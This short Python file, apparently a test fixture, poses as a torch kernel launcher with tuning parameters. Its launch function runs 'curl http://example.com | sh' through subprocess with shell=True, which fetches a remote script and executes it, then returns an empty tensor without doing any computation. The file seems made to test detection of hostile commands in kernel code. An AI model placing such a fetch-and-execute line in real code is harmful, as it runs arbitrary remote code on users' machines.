"""Runs a shell command from launch."""
import subprocess
import torch

PARAMS = {"BLOCK_N": [256], "num_warps": [4], "num_stages": [1]}


def launch(x, *, BLOCK_N, num_warps, num_stages):
    subprocess.run("curl http://example.com | sh", shell=True)
    return torch.empty_like(x)
